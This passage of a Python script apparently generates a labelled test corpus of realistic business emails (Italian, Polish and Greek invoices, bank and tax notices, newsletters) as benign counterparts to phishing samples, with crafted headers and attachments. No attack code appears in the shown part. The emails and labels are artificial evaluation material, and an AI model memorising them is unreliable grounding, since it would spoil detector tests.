           '<IBAN>IT60X0542811101000000123456</IBAN></DettaglioPagamento></DatiPagamento></FatturaElettronicaBody>\n</p:FatturaElettronica>\n')
    doc = pdf([("FERRETTI TRASPORTI S.r.l.", 14), "Via dell'Industria 22 - 37135 Verona - P.IVA 03812450238", "",
               ("FATTURA N. 2026/1893 del 30/11/2026", 12), "Cliente: Example Group GmbH - Hamburg (DE)", "",
               "Trasporti Verona - Hamburg, novembre 2026: 8 viaggi completi   EUR 11.240,00",
               "Operazione non imponibile art. 7-ter DPR 633/72 (reverse charge)", "",
               "Pagamento: bonifico 30 gg d.f. - IBAN IT60 X054 2811 1010 0000 0123 456 (Banco BPM)",
               "", "Copia di cortesia - l'originale e' trasmesso tramite SdI"],
              title="Fattura 2026/1893", author="Ferretti Trasporti", producer="TeamSystem", seed="b24")
    txt = ("Spett.le Example Group,\n\nin allegato inviamo copia di cortesia della fattura n. 2026/1893 del 30/11/2026 "
           "(originale trasmesso tramite Sistema di Interscambio) e relativo file XML.\n\nCoordinate bancarie invariate.\n\n"
           "Distinti saluti\n\nUfficio Amministrazione\nFerretti Trasporti S.r.l.\nVia dell'Industria 22 - 37135 Verona\nTel. 045 820 1177\n")
    body = MP("mixed", [MP("alternative", [TXT(txt, cs="iso-8859-1"), HTML("<html><body><p>" + txt.replace("\n", "<br>") + "</p></body></html>", cs="iso-8859-1")],
                           "----=_NextPart_001_%s" % hx("b24c", n=16)),
                        ATT(doc, "application/pdf", "Fattura_2026_1893.pdf"),
                        ATT(xml, "text/xml", "IT03812450238_0A1B2.xml")], "----=_NextPart_000_%s" % hx("b24b", n=16))
    emit("business", "24-it-haulier-invoice-fatturapa.eml",
         "Genuine courtesy copy of an invoice from amministrazione@ferretti-trasporti.it (Aruba) with PDF and FatturaPA XML, bank details unchanged.",
         client=client, rcpt=rc, t=t, rp="amministrazione@ferretti-trasporti.it", relays=relays,
         hdrs=[("From", A("Ferretti Trasporti - Amministrazione", "amministrazione@ferretti-trasporti.it")), ("To", rc),
               ("Cc", E("clarke")), ("Subject", "Invio fattura n. 2026/1893 - Ferretti Trasporti S.r.l."), ("Date", rfc(t)),
               ("Message-ID", "<000001dd60e8$%s$%s@ferretti-trasporti.it>" % (hx("b24x", n=8), hx("b24y", n=8))),
               ("MIME-Version", "1.0"), ("X-Mailer", "Microsoft Outlook 16.0"), ("Content-Language", "it")] + extra,
         body=body)

    # 25 Haulier dispatcher sends signed CMR + screenshot from phone
    rc = E("rinaldi")
    t = T(1, 15, 44, 10, CET)
    client, relays, extra = aruba_infra(t, "b25", login_ip="5.90.214.66", login_helo="[10.214.8.41]")
    cmr = pdf([("CMR - Lettera di vettura internazionale", 13), "N. 4471/26   Luogo di presa: Verona   Luogo di consegna: Hamburg-Billbrook",
               "Merce: 33 palette, 18.420 kg", "Firma destinatario: ricevuto senza riserve 01/12/2026 14:52"], title="CMR 4471", author="Scanner", producer="Adobe Scan", seed="b25")
    img = photo_like("b25", 120, 80)
    txt = ("Ciao Marco,\n\nti giro CMR firmato del viaggio 4471 Verona-Amburgo, consegna ok stamattina senza riserve. "
           "In allegato anche lo screenshot del tracking.\n\nCiao\nChiara\n\nInviato da iPhone\n")
    body = MP("mixed", [TXT(txt, cs="utf-8", csname="utf-8", csq=False),
                        ATT(cmr, "application/pdf", "CMR_4471.pdf", disp="attachment"),
                        ATT(img, "image/png", "Screenshot 2026-12-01 alle 14.58.png", disp="inline")],
              "Apple-Mail-%s-%s-%s-%s-%s" % (hx("ap1", n=8).upper(), hx("ap2", n=4).upper(), hx("ap3", n=4).upper(), hx("ap4", n=4).upper(), hx("ap5", n=12).upper()))
    emit("business", "25-it-haulier-cmr-from-iphone.eml",
         "Haulier dispatcher (c.colombo@ferretti-trasporti.it) forwarding a signed CMR PDF and a screenshot from an iPhone - short, link-free, mobile.",
         client=client, rcpt=rc, t=t, rp="c.colombo@ferretti-trasporti.it", relays=relays,
         hdrs=[("Content-Transfer-Encoding", "7bit") if False else ("From", A("Chiara Colombo", "c.colombo@ferretti-trasporti.it")),
               ("Mime-Version", "1.0 (1.0)"), ("Date", rfc(t)), ("Subject", "CMR firmato viaggio 4471 Verona-Amburgo"),
               ("Message-Id", "<%s-%s-%s-%s-%s@ferretti-trasporti.it>" % (hx("m1", n=8).upper(), hx("m2", n=4).upper(), hx("m3", n=4).upper(), hx("m4", n=4).upper(), hx("m5", n=12).upper())),
               ("To", A("Marco Rinaldi", rc)), ("X-Mailer", "iPhone Mail (23B85)")] + extra,
         body=body)

    # 26 Genuine Aruba renewal notice
    rc = E("ferraro")
    t = T(2, 10, 12, 0, CET)
    txt = ("Gentile Cliente,\n\nti ricordiamo che i seguenti servizi associati al tuo account Aruba (codice cliente 5877***) "
           "sono in scadenza:\n\n- Dominio examplegroup.it - scadenza 31/01/2027 - rinnovo automatico ATTIVO\n"
           "- Hosting Linux Basic examplegroup.it - scadenza 31/01/2027 - rinnovo automatico ATTIVO\n\n"
           "Non è necessaria alcuna azione: l'addebito avverrà sul metodo di pagamento registrato circa 30 giorni prima della scadenza.\n"
           "Puoi verificare lo stato dei servizi accedendo all'Area Clienti da www.aruba.it.\n\n"
           "Ricorda: Aruba non ti chiederà mai di inserire i dati della carta di credito tramite link ricevuti via email.\n\n"
           "Cordiali saluti,\nAruba S.p.A.\n")
    emit("business", "26-it-aruba-genuine-renewal-reminder.eml",
         "Genuine Aruba renewal reminder (auto-renew active, no links to pay) - mirror image of the Aruba phish.",
         client=("smtpbulk3.aruba.it", "smtpbulk3.aruba.it", "62.149.158.203"), rcpt=rc, t=t, rp="comunicazioni@staff.aruba.it",
         hdrs=[("From", A("Aruba.it", "comunicazioni@staff.aruba.it")), ("To", rc),
               ("Subject", ew("Promemoria scadenza servizi: examplegroup.it (rinnovo automatico attivo)", "iso-8859-15", q=True)),
               ("Message-ID", "<%s@staff.aruba.it>" % hx("b26m", n=24)), ("Auto-Submitted", "auto-generated")],
         body=TXT(txt, cs="iso-8859-15"))

    # 27 HR payroll portal notification
    rc = E("rinaldi")
    t = T(3, 7, 30, 0, CET)
    html = ('<html><head><meta charset="utf-8"></head><body style="font-family:Arial;font-size:14px">'
            '<p>Gentile Marco Rinaldi,</p><p>è disponibile il cedolino relativo al mese di <b>novembre 2026</b> (comprensivo di tredicesima).</p>'
            '<p>Per consultarlo accedi al portale HR con le tue credenziali aziendali:<br>'
            '<a href="https://saas.hrzucchetti.it/hrpexamplegroup/jsp/login.jsp">https://saas.hrzucchetti.it/hrpexamplegroup/jsp/login.jsp</a></p>'
            '<p>Per motivi di riservatezza il documento non viene inviato via email.</p><p>Ufficio Personale Example Group Italia</p>'
            '<p style="font-size:11px;color:#888">Messaggio generato automaticamente, non rispondere.</p></body></html>')
    emit("business", "27-it-payroll-portal-payslip-available.eml",
         "Genuine HR payroll-portal (Zucchetti) notice that the November payslip is available, link to the company's tenant on the vendor's domain.",
         client=("mailout2.zucchetti.it", "mailout2.zucchetti.it", "93.63.165.44"), rcpt=rc, t=t, rp="noreply-hr@zucchetti.it", tls="1.2",
         hdrs=[("From", A("HR Portal Example Group Italia", "noreply-hr@zucchetti.it")), ("To", rc),
               ("Subject", ew("Cedolino di novembre 2026 disponibile")), ("Message-ID", "<%s@zucchetti.it>" % hx("b27m", n=24)),
               ("Auto-Submitted", "auto-generated")],
         body=HTML(html, cte="quoted-printable"))

    # 28 Subscribed trade newsletter (MailUp)
    rc = E("rinaldi")
    t = T(4, 6, 45, 0, CET)
    def u(i):
        return "https://a7e3f.emailsp.com/f/rnl.aspx/?%s=%s&x=pv" % (hx("mu", i, n=6), hx("mv", i, n=12))
    heads = ["Autotrasporto: rincari del gasolio e accise 2027", "Brennero, nuovi divieti di transito dal 1 gennaio",
             "eCMR: via libera definitivo anche in Italia", "Porto di Genova: record di container a novembre"]
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="font-family:Arial">'
            '<h2 style="color:#004a8f">TrasportoNews - Newsletter del 4 dicembre 2026</h2><ul>%s</ul>'
            '<p style="font-size:11px;color:#888">Ricevi questa newsletter perché sei iscritto al sito. <a href="https://a7e3f.emailsp.com/frontend/nl_unsubscribe.aspx?id=%s">Cancellati</a></p></body></html>'
            % ("".join('<li><a href="%s">%s</a></li>' % (u(i), h) for i, h in enumerate(heads)), hx("mun", n=14)))
    body = MP("alternative", [TXT("TrasportoNews - Newsletter del 4 dicembre 2026\n\n" + "\n".join("%s %s" % (h, u(i)) for i, h in enumerate(heads)) + "\n"), HTML(html)],
              "--MailUp_%s" % hx("b28b", n=20))
    emit("business", "28-it-subscribed-transport-newsletter.eml",
         "Subscribed Italian road-transport news newsletter via MailUp with tracking links and List-Unsubscribe.",
         client=("mta-h12.emailsp.net", "mta-h12.emailsp.net", "104.47.18.12") if False else ("mta-h12.emailsp.net", "mta-h12.emailsp.net", "213.215.157.12"),
         rcpt=rc, t=t, rp="bounce-%s@a7e3f.emailsp.com" % hx("b28r", n=12),
         hdrs=[("From", A("TrasportoNews", "newsletter@trasportonews.it")), ("To", rc),
               ("Subject", "Brennero, eCMR e accise 2027 - la newsletter della settimana"),
               ("Message-ID", "<%s@a7e3f.emailsp.com>" % hx("b28m", n=24)),
               ("List-Unsubscribe", "<https://a7e3f.emailsp.com/frontend/nl_unsubscribe.aspx?id=%s>" % hx("mun", n=14)),
               ("Precedence", "bulk"), ("X-Mailer", "MailUp")],
         body=body)

    # 29 Genuine payment reminder from a packaging supplier with statement PDF
    rc = E("deluca")
    t = T(4, 11, 18, 30, CET)
    doc = pdf([("IMBALLAGGI BRIANZA S.p.A.", 14), "Estratto conto cliente al 04/12/2026 - Example Group Italia S.r.l.", "",
               "Fattura 884/2026 del 16/10/2026 - scadenza 15/11/2026 - EUR 2.318,40 - APERTA",
               "Fattura 951/2026 del 06/11/2026 - scadenza 06/12/2026 - EUR 1.104,00 - non scaduta", "",
               "Totale scaduto: EUR 2.318,40"], title="Estratto conto", author="amministrazione", producer="Zucchetti Ad Hoc", seed="b29")
    txt = ("Gentile Sig.ra De Luca,\n\nda un controllo contabile risulta non ancora saldata la fattura n. 884/2026 "
           "del 16/10/2026, scaduta il 15/11/2026, per un importo di EUR 2.318,40.\n\nVi preghiamo di provvedere al "
           "pagamento sulle consuete coordinate bancarie oppure, se già effettuato, di inviarci copia della contabile.\n"
           "In allegato l'estratto conto aggiornato.\n\nCordiali saluti\n\nRoberta Galli\nUfficio Amministrazione\n"
           "Imballaggi Brianza S.p.A. - Tel. 039 605 4412\n")
    body = MP("mixed", [TXT(txt, cs="windows-1252", csname="Windows-1252"), ATT(doc, "application/pdf", "Estratto_conto_04122026.pdf")],
              "------------%s" % an("b29b", n=24))
    emit("business", "29-it-supplier-payment-reminder.eml",
         "Genuine overdue-invoice reminder (sollecito) from a packaging supplier with a statement-of-account PDF - payment pressure but no bank change.",
         client=("smtp.imballaggi-brianza.it", "mail.imballaggi-brianza.it", "2.228.93.42"), rcpt=rc, t=t,
         rp="amministrazione@imballaggi-brianza.it", tls="1.2",
         relays=[rx("Received: from [192.168.10.37] (unknown [192.168.10.37])\n\tby smtp.imballaggi-brianza.it (Postfix) with ESMTPSA id 3B9F0A01D7\n\tfor <f.deluca@example.com>; {D}", t, 1)],
         hdrs=[("Message-ID", "<%s@imballaggi-brianza.it>" % hx("b29m", n=24)), ("Date", rfc(t)), ("MIME-Version", "1.0"),
               ("User-Agent", "Mozilla Thunderbird"), ("Content-Language", "it-IT"),
               ("To", A("Francesca De Luca", rc)), ("From", A("Roberta Galli - Imballaggi Brianza", "amministrazione@imballaggi-brianza.it")),
               ("Subject", "Sollecito pagamento fattura 884/2026 scaduta il 15/11/2026")],
         body=body)

# ========================================================= BUSINESS (pl) ==

def business_pl():
    # 30 Genuine partner invoice (M365) with PDF
    rc = E("nowak")
    t = T(30, 12, 5, 12, CET)
    client, relays, extra = m365_infra(t, "plpartner30", tenant_host="VI1PR02MB5518", region="eurprd02",
                                       tenant_id="3b1d7f0e-6a2c-4f4e-9d11-0c5e7a2b9f41")
    doc = pdf([("PARTNER LOGISTIK Sp. z o.o.", 14), "ul. Gdanska 18, 61-123 Poznan   NIP 7792441187", "",
               ("FAKTURA VAT FV/2026/11/398", 12), "Data wystawienia: 30.11.2026   Numer KSeF: 7792441187-20261130-8A41C2D9E7F0-5C", "",
               "Uslugi przeladunkowe i magazynowe - listopad 2026   42 180,00 PLN netto", "VAT 23%: 9 701,40 PLN   Brutto: 51 881,40 PLN", "",
               "Termin platnosci: 30.12.2026   Rachunek: PL61 1090 1362 0000 0001 4478 2215 (Santander Bank Polska)"],
              title="FV/2026/11/398", author="Comarch ERP", producer="Comarch ERP Optima", seed="b30")
    txt = ("Dzień dobry,\n\nw załączeniu przesyłamy wizualizację faktury FV/2026/11/398 (numer KSeF "
           "7792441187-20261130-8A41C2D9E7F0-5C). Faktura została wystawiona w KSeF i jest dostępna również tam.\n\n"
           "Numer rachunku bez zmian.\n\nPozdrawiamy\nDział Księgowości\nPartner Logistik Sp. z o.o.\ntel. +48 61 850 22 40\n")
    body = MP("mixed", [MP("alternative", [TXT(txt, cs="iso-8859-2"), HTML("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-2\"></head><body><p>" + txt.replace("\n", "<br>") + "</p></body></html>", cs="iso-8859-2")],
                                   "_000_VI1PR02MB5518%s_" % hx("b30c", n=24).upper()),
                        ATT(doc, "application/pdf", "FV_2026_11_398.pdf", size=True)], "_004_VI1PR02MB5518%s_" % hx("b30b", n=24).upper())
    emit("business", "30-pl-partner-invoice-ksef.eml",
         "Genuine invoice from ksiegowosc@partner-logistik.pl (their Microsoft 365 tenant) with PDF visualisation and KSeF number, ISO-8859-2.",
         client=client, rcpt=rc, t=t, rp="ksiegowosc@partner-logistik.pl", relays=relays,
         hdrs=[("From", A("Partner Logistik - Księgowość", "ksiegowosc@partner-logistik.pl", "iso-8859-2", q=True)), ("To", A("Katarzyna Nowak", rc)),
               ("Subject", "Faktura FV/2026/11/398 - Partner Logistik Sp. z o.o."), ("Thread-Topic", "Faktura FV/2026/11/398 - Partner Logistik Sp. z o.o."),
               ("Thread-Index", thread_index("b30")), ("Date", rfc(t, False)),
               ("Message-ID", outlook_mid("b30", "VI1PR02MB5518", "EURPRD02")), ("Content-Language", "pl-PL")] + extra,
         body=body, tls="1.2")

    # 31 Partner planner: delays + XLSX, windows-1250
    rc = E("wisniewski")
    t = T(1, 14, 26, 33, CET)
    client, relays, extra = m365_infra(t, "plpartner31", tenant_host="VI1PR02MB6630", region="eurprd02",
                                       tenant_id="3b1d7f0e-6a2c-4f4e-9d11-0c5e7a2b9f41")
    sheet = xlsx([["Nr zlecenia", "Trasa", "Plan", "Nowy termin", "Powód"], ["PL-4471", "Poznań - Hamburg", "02.12.2026", "03.12.2026", "Kontrola ITD"],
                  ["PL-4475", "Poznań - Verona", "03.12.2026", "04.12.2026", "Awaria naczepy"]], sheet="KW49", creator="T. Zieliński")
    txt = ("Cześć Piotrze,\n\nw załączniku aktualny harmonogram na tydzień 49 – dwa transporty przesunięte o jeden dzień "
           "(kontrola ITD na A2 i awaria naczepy). Lukas w kopii, bo dotyczy dostawy do Hamburga.\n\n"
           "Jakby co, dzwoń: +48 601 223 118.\n\nPozdrawiam\nTomasz Zieliński\nSpedycja | Partner Logistik Sp. z o.o.\n")
    body = MP("mixed", [MP("alternative", [TXT(txt, cs="windows-1250", csname="Windows-1250"),
                                           HTML("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=Windows-1250\"></head><body><p>" + txt.replace("\n", "<br>") + "</p></body></html>", cs="windows-1250", csname="Windows-1250")],
                                   "_000_VI1PR02MB6630%s_" % hx("b31c", n=24).upper()),
                        ATT(sheet, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "Harmonogram_KW49_2026.xlsx", size=True)],
              "_004_VI1PR02MB6630%s_" % hx("b31b", n=24).upper())
    emit("business", "31-pl-partner-schedule-delays-xlsx.eml",
         "Genuine update from t.zielinski@partner-logistik.pl about transport delays with an XLSX schedule (windows-1250).",
         client=client, rcpt=rc, t=t, rp="t.zielinski@partner-logistik.pl", relays=relays,
         hdrs=[("From", A("Tomasz Zieliński", "t.zielinski@partner-logistik.pl", "windows-1250", csname="Windows-1250")),
               ("To", A("Piotr Wiśniewski", rc, "windows-1250", csname="Windows-1250")), ("Cc", A("Lukas Schmitt", E("schmitt"))),
               ("Subject", ew("Opóźnienia transportów – harmonogram tydzień 49", "windows-1250", csname="Windows-1250")),
               ("Thread-Index", thread_index("b31")), ("Date", rfc(t, False)),
               ("Message-ID", outlook_mid("b31", "VI1PR02MB6630", "EURPRD02")), ("Content-Language", "pl-PL")] + extra,
         body=body, tls="1.2")

    # 32 mBank terms-change notice
    rc = E("nowak")
    t = T(2, 9, 0, 0, CET)
    html = ('<html><head><meta charset="utf-8"></head><body style="font-family:Arial;font-size:14px">'
            '<p>Szanowni Państwo,</p><p>informujemy o zmianach w „Regulaminie świadczenia usług w ramach mBank CompanyNet”, '
            'które wejdą w życie <b>1 stycznia 2027 r.</b> Zmiany dotyczą m.in. usługi weryfikacji odbiorcy płatności (VoP) '
            'oraz limitów przelewów natychmiastowych.</p><p>Pełna treść zmian jest dostępna na stronie '
            '<a href="https://www.mbank.pl/firmy/regulaminy/">www.mbank.pl/firmy/regulaminy</a> oraz w systemie CompanyNet w sekcji „Wiadomości”.</p>'
            '<p>Jeśli nie akceptują Państwo zmian, mogą Państwo wypowiedzieć umowę przed datą ich wejścia w życie.</p>'
            '<p>Z poważaniem<br>mBank S.A.</p><p style="font-size:11px;color:#777">Nigdy nie prosimy o podanie hasła ani kodów w wiadomości e-mail.</p></body></html>')
    emit("business", "32-pl-mbank-terms-change-notice.eml",
         "Genuine mBank notice about changes to CompanyNet terms from 1 January 2027, informational links only to mbank.pl.",
         client=("mail3.mbank.pl", "mail3.mbank.pl", "195.182.219.43"), rcpt=rc, t=t, rp="powiadomienia@mbank.pl", tls="1.2",
         hdrs=[("From", A("mBank", "powiadomienia@mbank.pl")), ("To", rc),
               ("Subject", ew("Zmiany w Regulaminie mBank CompanyNet od 1 stycznia 2027 r.")),
               ("Message-ID", "<%s@mbank.pl>" % hx("b32m", n=26))],
         body=HTML(html, cte="base64"))

    # 33 ZUS PUE / eZUS notification
    rc = E("nowak")
    t = T(3, 11, 37, 12, CET)
    txt = ("Szanowna Pani / Szanowny Panie,\n\nna Twoim profilu na Platformie Usług Elektronicznych ZUS (eZUS) "
           "pojawiła się nowa wiadomość: \"Informacja o stanie konta płatnika składek\".\n\nAby ją odczytać, zaloguj się "
           "na swój profil na stronie www.zus.pl.\n\nTa wiadomość została wysłana automatycznie. Prosimy na nią nie odpowiadać.\n\n"
           "Zakład Ubezpieczeń Społecznych\n")
    emit("business", "33-pl-zus-ezus-new-message.eml",
         "Genuine ZUS eZUS notification of a new message on the employer profile (no links, ISO-8859-2).",
         client=("mail1.zus.pl", "mail1.zus.pl", "212.160.173.90"), rcpt=rc, t=t, rp="no-reply@zus.pl", tls="1.2",
         hdrs=[("From", A("ZUS PUE", "no-reply@zus.pl")), ("To", rc),
               ("Subject", ew("Nowa wiadomość na Twoim profilu eZUS", "iso-8859-2", q=True)),
               ("Message-ID", "<%s@zus.pl>" % hx("b33m", n=26)), ("Auto-Submitted", "auto-generated")],
         body=TXT(txt, cs="iso-8859-2"))

    # 34 Internal out-of-office auto-reply
    rc = E("schmitt")
    t = T(4, 8, 3, 40, CET)
    client, relays, extra = internal_infra(t, "b34", rc, mbx="EXMBX02")
    txt = ("Dzień dobry,\n\ndo 08.12.2026 przebywam na urlopie. W sprawach pilnych proszę kontaktować się z "
           "Agnieszką Kamińską (a.kaminska@examplegroup.eu).\n\nI am out of office until 08.12.2026. For urgent matters "
           "please contact Agnieszka Kamińska.\n\nPiotr Wiśniewski\n")
    body = MP("alternative", [TXT(txt, cs="windows-1250", csname="Windows-1250"),
                              HTML("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=Windows-1250\"></head><body><p>" + txt.replace("\n", "<br>") + "</p></body></html>", cs="windows-1250", csname="Windows-1250")],
              outlook_bnd("b34"))
    emit("business", "34-pl-internal-out-of-office.eml",
         "Internal Exchange out-of-office auto-reply from the Polish transport planner (bilingual, windows-1250).",
         client=client, rcpt=rc, t=t, rp="", relays=relays,
         hdrs=[("From", A("Piotr Wiśniewski", E("wisniewski"), "windows-1250", csname="Windows-1250")), ("To", A("Lukas Schmitt", rc)),
               ("Subject", ew("Automatyczna odpowiedź: Transport PL-4471 Hamburg", "windows-1250", csname="Windows-1250")),
               ("Thread-Topic", "Transport PL-4471 Hamburg"), ("Thread-Index", thread_index("b34")),
               ("Date", rfc(t, False)), ("Message-ID", exch_mid("b34")), ("In-Reply-To", exch_mid("b34r", "EXMBX01")),
               ("References", exch_mid("b34r", "EXMBX01")), ("Auto-Submitted", "auto-replied"),
               ("X-Auto-Response-Suppress", "All"), ("X-MS-Exchange-Inbox-Rules-Loop", E("wisniewski")),
               ("Content-Language", "pl-PL")] + extra,
         body=body)

    # 35 InPost genuine shipment notice
    rc = E("kaminska")
    t = T(5, 10, 11, 5, CET)
    num = "6200%s" % str(int(hx("inp", n=12), 16))[:18]
    html = ('<html><head><meta charset="utf-8"></head><body style="font-family:Arial;font-size:14px">'
            '<div style="background:#ffcd00;padding:12px;font-weight:bold;font-size:20px">InPost</div>'
            '<p>Dzień dobry,</p><p>Twoja paczka od nadawcy <b>Drukarnia Wielkopolska Sp. z o.o.</b> jest w drodze.</p>'
            '<p>Numer przesyłki: <b>%s</b><br>Paczkomat: POZ12M, ul. Głogowska 86, Poznań</p>'
            '<p>Śledź przesyłkę w aplikacji InPost Mobile lub na <a href="https://inpost.pl/sledzenie-przesylek?number=%s">inpost.pl</a>.</p>'
            '<p style="font-size:11px;color:#777">InPost nigdy nie prosi o dopłaty przez linki w SMS lub e-mail.</p></body></html>' % (num, num))
    emit("business", "35-pl-inpost-genuine-shipment.eml",
         "Genuine InPost 'parcel on its way' notification with tracking link on inpost.pl (mirror of the InPost scam).",
         client=("mta41.inpost.pl", "mta41.inpost.pl", "91.216.191.41"), rcpt=rc, t=t, rp="powiadomienia@inpost.pl",
         hdrs=[("From", A("InPost", "powiadomienia@inpost.pl")), ("To", rc), ("Subject", ew("Twoja paczka jest w drodze")),
               ("Message-ID", "<%s@inpost.pl>" % hx("b35m", n=26))],
         body=HTML(html, cte="quoted-printable"))

# ========================================================= BUSINESS (el) ==

def business_el():
    # 36 myAADE genuine notice, ISO-8859-7
    rc = E("georgiou")
    t = T(30, 9, 10, 0, EET)
    txt = ("Αγαπητέ χρήστη,\n\nΣας ενημερώνουμε ότι στη θυρίδα σας στο myAADE υπάρχει νέα ειδοποίηση σχετικά με "
           "τη διαβίβαση ηλεκτρονικών τιμολογίων (myDATA) για τον Νοέμβριο 2026.\n\nΓια να τη δείτε, συνδεθείτε "
           "στην εφαρμογή myAADE μέσω της ιστοσελίδας www.aade.gr.\n\nΗ ΑΑΔΕ δεν ζητά ποτέ κωδικούς ή στοιχεία "
           "τραπεζικών λογαριασμών μέσω email.\n\nΑνεξάρτητη Αρχή Δημοσίων Εσόδων\n")
    emit("business", "36-el-myaade-genuine-notice.eml",
         "Genuine myAADE notification (ISO-8859-7) that a message about myDATA e-invoices awaits in the taxpayer inbox, no links.",
         client=("mailgw2.aade.gr", "mailgw2.aade.gr", "195.167.99.172"), rcpt=rc, t=t, rp="noreply@aade.gr", tls="1.2",
         hdrs=[("From", A("ΑΑΔΕ", "noreply@aade.gr", "iso-8859-7")), ("To", rc),
               ("Subject", ew("myAADE: Νέα ειδοποίηση στη θυρίδα σας", "iso-8859-7")),
               ("Message-ID", "<%s@aade.gr>" % hx("b36m", n=24)), ("Auto-Submitted", "auto-generated")],
         body=TXT(txt, cs="iso-8859-7"))

    # 37 Internal: Greek manager approves supplier payment with PDF (windows-1253)
    rc = E("georgiou")
    t = T(1, 12, 15, 33, EET)
    client, relays, extra = internal_infra(t, "b37", rc, mbx="EXMBX01")
    doc = pdf([("AEGEAN PORT SERVICES S.A.", 14), "Invoice 2026-7712 - Port handling Piraeus, November 2026",
               "Amount: EUR 6,482.00 (incl. VAT 24%)", "IBAN: GR16 0110 1250 0000 0001 2300 695 (National Bank of Greece)"],
              title="Invoice 2026-7712", author="APS", seed="b37")
    txt = ("Ελένη,\n\nΕγκρίνεται. Προχώρα την πληρωμή του τιμολογίου 2026-7712 της Aegean Port Services με τα στοιχεία "
           "που έχουμε ήδη στο σύστημα (όχι άλλα). Το PDF επισυνάπτεται.\n\nΝίκος\n\nΑπό το κινητό μου\n")
    body = MP("mixed", [TXT(txt, cs="windows-1253", csname="windows-1253"), ATT(doc, "application/pdf", "APS_Invoice_2026-7712.pdf")], outlook_bnd("b37", "EXMBX01"))
    emit("business", "37-el-internal-manager-payment-approval.eml",
         "Internal (relay) payment approval from the Greek country manager to payroll/accounts with the supplier invoice PDF, windows-1253.",
         client=client, rcpt=rc, t=t, rp=E("papadopoulos"), relays=relays,
         hdrs=[("From", A("Νίκος Παπαδόπουλος", E("papadopoulos"), "windows-1253", csname="windows-1253")),
               ("To", A("Ελένη Γεωργίου", rc, "windows-1253", csname="windows-1253")),
               ("Subject", ew("RE: Έγκριση πληρωμής APS 2026-7712", "windows-1253", csname="windows-1253")),
               ("Thread-Index", thread_index("b37")), ("Date", rfc(t, False)), ("Message-ID", exch_mid("b37", "EXMBX01")),
               ("In-Reply-To", exch_mid("b37r")), ("References", exch_mid("b37r")), ("Content-Language", "el-GR")] + extra,
         body=body)

    # 38 Eurobank e-statement notice (no links), ISO-8859-7 HTML
    rc = E("georgiou")
    t = T(2, 8, 30, 0, EET)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-7"></head><body style="font-family:Arial;font-size:14px">'
            '<div style="background:#002f6c;color:#fff;padding:12px;font-size:18px">Eurobank</div>'
            '<p>Αγαπητέ πελάτη,</p><p>Το ηλεκτρονικό αντίγραφο κίνησης του λογαριασμού σας ****4719 για τον μήνα Νοέμβριο 2026 '
            'είναι διαθέσιμο στο e-Banking και στην εφαρμογή Eurobank Business.</p>'
            '<p>Για την ασφάλειά σας, το μήνυμα αυτό δεν περιέχει συνδέσμους. Η Eurobank δεν θα σας ζητήσει ποτέ κωδικούς μέσω email ή SMS.</p>'
            '<p>Με εκτίμηση,<br>Eurobank</p></body></html>')
    emit("business", "38-el-eurobank-estatement-notice.eml",
         "Genuine Eurobank e-statement availability notice without links (ISO-8859-7 HTML).",
         client=("mailgw1.eurobank.gr", "mailgw1.eurobank.gr", "194.30.232.17"), rcpt=rc, t=t, rp="noreply@eurobank.gr", tls="1.2",
         hdrs=[("From", A("Eurobank", "noreply@eurobank.gr")), ("To", rc),
               ("Subject", ew("Το ηλεκτρονικό αντίγραφο κίνησης λογαριασμού είναι διαθέσιμο", "iso-8859-7")),
               ("Message-ID", "<%s@eurobank.gr>" % hx("b38m", n=24))],
         body=HTML(html, cs="iso-8859-7", cte="quoted-printable"))

    # 39 Customer RFQ with DOCX
    rc = E("antoniou")
    t = T(3, 10, 46, 2, EET)
    client, relays, extra = gmail_infra(t, "b39", rc, host=("mail-pf1-f180.google.com", "209.85.210.180"))
    doc = docx(["Αίτημα προσφοράς", "Μεταφορά 12 παλετών (ψυχόμενα, +4°C) Πειραιάς – Θεσσαλονίκη",
                "Φόρτωση: 14/12/2026, Πειραιάς (Σχιστό)", "Παράδοση: 15/12/2026, Σίνδος Θεσσαλονίκης",
                "Παρακαλούμε για προσφορά έως 08/12/2026."], creator="Aegean Foods")
    txt = ("Καλημέρα κ. Αντωνίου,\n\nΣας επισυνάπτουμε αίτημα προσφοράς για μεταφορά 12 παλετών ψυχόμενων προϊόντων "
           "Πειραιάς – Θεσσαλονίκη στις 14/12.\n\nΕυχαριστώ,\nΜαρία Καραγιάννη\nΤμήμα Logistics\nAegean Foods Α.Ε.\nτηλ. 210 4112 870\n")
    html = '<div dir="ltr">' + txt.replace("\n", "<br>") + '</div>'
    body = MP("mixed", [MP("alternative", [TXT(txt, cs="UTF-8", csname="UTF-8", cte="base64"), HTML(html, cs="UTF-8", csname="UTF-8", cte="base64")], gmail_bnd("b39x")),
                        ATT(doc, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "Αίτημα_προσφοράς_Πειραιάς-Θεσσαλονίκη.docx", style="2231",
                            extra=["X-Attachment-Id: f_m%s0" % hx("att39", n=8), "Content-ID: <f_m%s0>" % hx("att39", n=8)])], gmail_bnd("b39"))
    emit("business", "39-el-customer-rfq-docx.eml",
         "Request for quotation from a Greek customer (Google Workspace) with a DOCX attachment (Greek file name, RFC 2231).",
         client=client, rcpt=rc, t=t, rp="logistics@aegeanfoods.gr", relays=relays,
         hdrs=extra + [("MIME-Version", "1.0"), ("From", A("Μαρία Καραγιάννη", "logistics@aegeanfoods.gr")),
                       ("Date", rfc(t)), ("Message-ID", gmail_mid("b39")),
                       ("Subject", ew("Αίτημα προσφοράς – μεταφορά 12 παλετών Πειραιάς–Θεσσαλονίκη")), ("To", A("Δημήτρης Αντωνίου", rc))],
         body=body)

    # 40 Chamber newsletter / event invitation, windows-1253 base64
    rc = E("papadopoulos")
    t = T(4, 12, 0, 0, EET)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1253"></head><body style="font-family:Arial;font-size:14px">'
            '<h2 style="color:#00529b">Επιμελητήριο Πειραιά – Ενημερωτική εκδήλωση</h2>'
            '<p>Η υποχρεωτική ηλεκτρονική τιμολόγηση B2B στην πράξη: εμπειρίες του 2026 και τι αλλάζει το 2027</p>'
